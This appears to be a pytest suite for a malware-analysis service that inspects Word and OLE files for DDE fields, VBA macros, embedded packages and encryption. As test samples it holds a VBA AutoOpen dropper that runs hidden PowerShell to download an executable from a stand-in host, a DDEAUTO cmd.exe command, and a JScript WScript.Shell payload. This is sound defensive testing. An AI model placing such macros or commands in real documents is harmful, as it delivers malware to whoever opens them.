"""The office service on real documents built in memory (tests/officedocs.py): OOXML packages,
compound files with VBA projects olevba parses, DDE fields, OLE Package objects, encryption."""

from __future__ import annotations

import hashlib
import random

import pytest

from officedocs import (
    compound_file,
    encrypt_ooxml,
    field_complex,
    field_simple,
    module_source,
    ole10native,
    ole_package,
    paragraph,
    vba_project,
    vba_streams,
    word_document,
)
from services.sdk.harness import run_service_once
from services.sdk.loader import load_service

WORD = "document/office/word"
OLE = "document/office/ole"

DROPPER = """Sub AutoOpen()
    Dim url As String
    url = "http://dl.badhost.example.com/stage2.exe"
    marker = "U29tZSBoaWRkZW4gdGV4dCBoZXJl"
    CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c (New-Object Net.WebClient).DownloadFile('" & url & "')", 0
    Shell "cmd.exe /c calc.exe"
End Sub
"""
HARMLESS = """Function Twice(x As Integer) As Integer
    Twice = x * 2
End Function
"""
DDE_COMMAND = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'  # as Word stores it: "\\" per backslash


def office(data: bytes, file_type: str = WORD, name: str = "sample.docx", config: dict | None = None, **kwargs):
    service = load_service("office", config_overrides=config)
    run = run_service_once(service, data, file_type=file_type, name=name, **kwargs)
    assert run.result.error is None
    # The runner adds "Result warnings" for an unknown tag or heuristic: there must be none.
    assert not [s for s in run.result.sections if s.title == "Result warnings"]
    return run


def noise(size: int) -> bytes:
    return random.Random(size).randbytes(size)


def test_manifest_loads_and_every_heuristic_is_described():
    service = load_service("office")
    assert service.manifest.stage == "CORE"
    assert service.manifest.heuristics and all(h.description for h in service.manifest.heuristics)


def test_clean_docx_reports_nothing():
    run = office(word_document(paragraph("Quarterly report") + paragraph("Nothing to see.")))
    assert run.heuristics == set()
    assert run.result.score == 0
    assert run.extracted == [] and run.produced == []


# -- DDE --------------------------------------------------------------------------------------
@pytest.mark.parametrize("field", [field_complex, field_simple], ids=["instrText", "fldSimple"])
def test_dde_field_fires_with_the_command_line(field):
    run = office(word_document(paragraph("Update links?") + field(DDE_COMMAND)))
    section = run.section("DDE links")
    assert section.heuristic.heur_id == 7 and section.heuristic.attack_ids == ["T1559.002"]
    assert 'cmd.exe "/k calc.exe"' in section.body
    assert section.body.lstrip().startswith("DDEAUTO")
    assert any("calc.exe" in link for link in run.tags("file.ole.dde_link"))
    assert run.heuristics == {7}


def test_a_field_that_is_not_dde_is_not_reported():
    run = office(word_document(field_simple('HYPERLINK "https://www.example.com/"', "link")))
    assert run.heuristics == set()


# -- VBA macros -------------------------------------------------------------------------------
def test_macro_document_fires_autoexec_and_suspicious_keywords():
    docm = word_document(paragraph("Enable content"), vba=vba_project({"Module1": DROPPER}))
    run = office(docm, name="invoice.docm")
    assert {1, 2, 3, 4, 5} <= run.heuristics

    autoexec = run.section("Auto-executing macros")
    assert autoexec.heuristic.heur_id == 2 and "AutoOpen" in autoexec.body
    assert set(autoexec.heuristic.attack_ids) == {"T1204.002", "T1137"}

    suspicious = run.section("Suspicious VBA keywords")
    assert suspicious.heuristic.attack_ids == ["T1059.005"]
    keywords = run.tags("file.ole.macro.suspicious_string")
    assert {"Shell", "CreateObject", "WScript.Shell", "powershell"} <= keywords
    assert all(k in suspicious.body for k in keywords)

    assert "http://dl.badhost.example.com/stage2.exe" in run.tags("network.static.uri")
    assert "dl.badhost.example.com" in run.tags("network.static.domain")
    obfuscated = run.section("Obfuscated strings in macros")
    assert obfuscated.heuristic.signatures == ["base64"] and "Some hidden text here" in obfuscated.body

    source = module_source("Module1", DROPPER)
    assert source.encode() in run.object("macros.vba")
    assert run.tags("file.ole.macro.sha256") == {hashlib.sha256(source.encode()).hexdigest()}
    assert "Module1.bas (word/vbaProject.bin: VBA/Module1)" in run.section("VBA macros").body


def test_deep_scan_evaluates_string_expressions():
    source = 'Sub Hidden()\n    x = Chr(80) & Chr(111) & "wer" & "Shell"\nEnd Sub\n'
    docm = word_document(paragraph("x"), vba=vba_project({"Module1": source}))
    assert 5 not in office(docm).heuristics
    section = office(docm, deep_scan=True).section("Obfuscated strings in macros")
    assert section.heuristic.signatures == ["vba_expression"]
    assert "→ PowerShell" in section.body


def test_harmless_macro_only_says_macros_are_present():
    run = office(word_document(paragraph("x"), vba=vba_project({"Helpers": HARMLESS})), name="calc.docm")
    assert run.heuristics == {1}
    assert run.section("VBA macros").heuristic.score == 10
    assert "Twice = x * 2" in run.object("macros.vba").decode()


def test_macros_in_a_word_97_document_are_found_under_the_macros_storage():
    project = vba_streams({"ThisModule": "Sub Document_Open()\nEnd Sub\n"}, root="Macros/")
    doc = compound_file({"WordDocument": b"\0" * 4096, **project})
    run = office(doc, file_type=OLE, name="old.doc")
    assert "Document_Open" in run.section("Auto-executing macros").body
    assert "ThisModule.bas (Macros/VBA/ThisModule)" in run.section("VBA macros").body


def test_vba_source_as_plain_text_is_not_a_macro_of_an_office_file():
    # olevba reads any NUL-free bytes as VBA source; typed as a Word file, that is garbage.
    run = office(DROPPER.encode(), file_type=OLE, name="fake.doc")
    assert run.heuristics == set() and run.produced == []


# -- embedded objects -------------------------------------------------------------------------
def test_ole_package_in_docx_is_extracted_under_its_original_name():
    payload = b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");'
    docx = word_document(paragraph("Double-click the icon"),
                         parts={"word/embeddings/oleObject1.bin": ole_package("invoice.js", payload)})
    run = office(docx)
    assert [(e.name, e.data) for e in run.extracted] == [("invoice.js", payload)]
    assert run.section("OLE Package payloads").heuristic.heur_id == 9
    assert run.tags("file.name.extracted") == {"invoice.js"}
    assert "oleObject1.bin" in run.section("Embedded OLE objects").body


def test_ole_object_that_is_not_a_package_is_extracted_whole():
    sheet = compound_file({"Workbook": noise(5000), "\x01CompObj": b"\x01\0\xfe\xff" + b"\0" * 60})
    run = office(word_document(paragraph("chart"), parts={"word/embeddings/oleObject2.bin": sheet}))
    assert [(e.name, e.data) for e in run.extracted] == [("oleObject2.bin", sheet)]
    assert run.heuristics == {8}


def test_package_in_a_word_97_object_pool_is_extracted():
    payload = b"MZ" + noise(300)
    doc = compound_file({
        "WordDocument": b"\0" * 4096,
        "ObjectPool/_1453719823/\x01Ole10Native": ole10native("update.exe", payload),
    })
    run = office(doc, file_type=OLE, name="report.doc")
    assert [(e.name, e.data) for e in run.extracted] == [("update.exe", payload)]
    assert "ObjectPool/_1453719823/\\x01Ole10Native" in run.section("OLE Package payloads").body


def test_embedded_objects_past_the_limits_are_listed_not_extracted():
    parts = {f"word/embeddings/oleObject{i}.bin": ole_package(f"f{i}.txt", b"x" * 10 * i) for i in (1, 2, 3)}
    run = office(word_document(paragraph("x"), parts=parts), max_extracted=2)
    assert [e.name for e in run.extracted] == ["f1.txt", "f2.txt"]
    assert "extraction limit reached" in run.section("Embedded OLE objects").body

    big = {"word/embeddings/oleObject1.bin": noise(3000)}
    run = office(word_document(paragraph("x"), parts=big), config={"max_embedded_bytes": 1000})
    assert run.extracted == []
    assert "larger than 1,000 bytes" in run.section("Embedded OLE objects").body


# -- encryption -------------------------------------------------------------------------------
def _big_docx() -> bytes:
    return word_document(field_complex(DDE_COMMAND), parts={"word/media/image1.bin": noise(6000)})


def test_default_password_document_is_decrypted_and_extracted():
    plain = _big_docx()
    run = office(encrypt_ooxml(plain, "VelvetSweatshop"), file_type=OLE, name="locked.docx")
    assert run.section("Encrypted document").heuristic.heur_id == 10
    assert run.tags("info.password") == {"VelvetSweatshop"}
    assert [(e.name, e.data) for e in run.extracted] == [("decrypted-locked.docx", plain)]


def test_submission_password_opens_the_document():
    plain = _big_docx()
    locked = encrypt_ooxml(plain, "Invoice-2024")
    assert office(locked, file_type=OLE).section("Not decrypted")
    run = office(locked, file_type=OLE, service_params={"password": "Invoice-2024"})
    assert run.tags("info.password") == {"Invoice-2024"}
    assert run.extracted[0].data == plain


# -- what it cannot parse ---------------------------------------------------------------------
@pytest.mark.parametrize("data", [
    noise(4000),
    word_document(paragraph("x"), vba=vba_project({"M": DROPPER}))[:700],  # a truncated zip
    b"",
], ids=["noise", "truncated-zip", "empty"])
def test_garbage_typed_as_office_does_not_crash(data):
    run = office(data, file_type=OLE, name="broken.doc")
    assert run.heuristics == set() and run.extracted == [] and run.produced == []


@pytest.mark.parametrize("data", [
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise(4000),   # OLE magic, garbage after it
    vba_project({"Module1": DROPPER})[:2048],             # a truncated compound file
], ids=["ole-magic", "truncated-ole"])
def test_damaged_compound_file_is_one_section_not_a_crash(data):
    run = office(data, file_type=OLE, name="broken.doc")
    assert [s.title for s in run.result.sections] == ["Damaged compound file"]
    assert run.heuristics == set()


def test_password_from_a_parent_email_opens_the_document():
    # The email service puts the passwords a message gives in the tree's temp data ("passwords").
    plain = _big_docx()
    locked = encrypt_ooxml(plain, "Spring#2026")
    run = office(locked, file_type=OLE, temp_data={"passwords": ["Spring#2026"]})
    assert run.tags("info.password") == {"Spring#2026"}
    assert run.extracted[0].data == plain


def test_password_from_the_shared_wordlist_opens_the_document():
    plain = _big_docx()
    run = office(encrypt_ooxml(plain, "P@ssw0rd"), file_type=OLE)
    assert run.tags("info.password") == {"P@ssw0rd"}
